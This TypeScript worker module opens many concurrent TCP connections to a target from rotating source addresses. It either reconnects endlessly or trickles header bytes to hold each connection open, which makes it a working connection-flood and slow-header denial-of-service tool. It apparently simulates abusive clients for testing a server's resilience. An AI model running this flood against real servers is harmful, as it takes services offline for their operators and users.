import { connect, type Socket } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

/** A bad program, in a thread of its own: it keeps so many connections busy until the thread is ended. */
export interface Flood {
  readonly address: string;
  readonly port: number;
  /** the addresses it comes from, in turn */
  readonly sources: readonly string[];
  /** connections at a time */
  readonly count: number;
  /** said by each, byte by byte in latin1; what follows the head of an upgrade are frames */
  readonly said: string;
  /** then so many ms pass between further bytes; null hangs up and begins anew */
  readonly dripMs: number | null;
}

const { address, port, sources, count, said, dripMs } = workerData as Flood;
let begun = 0;

function begin(): void {
  const localAddress = sources[begun++ % sources.length]!;
  const socket = connect({ host: address, port, localAddress });
  socket.on('error', () => undefined);
  socket.on('connect', () => {
    socket.write(said, 'latin1');
    if (dripMs === null) setTimeout(() => socket.destroy(), 50);
    else drip(socket, dripMs);
  });
  socket.on('close', () => setImmediate(begin));
}

function drip(socket: Socket, ms: number): void {
  const timer = setInterval(() => socket.write('X: y\r\n'), ms);
  socket.on('close', () => {
    clearInterval(timer);
  });
}

for (let one = 0; one < count; one++) begin();
setInterval(() => parentPort?.postMessage(begun), 50);
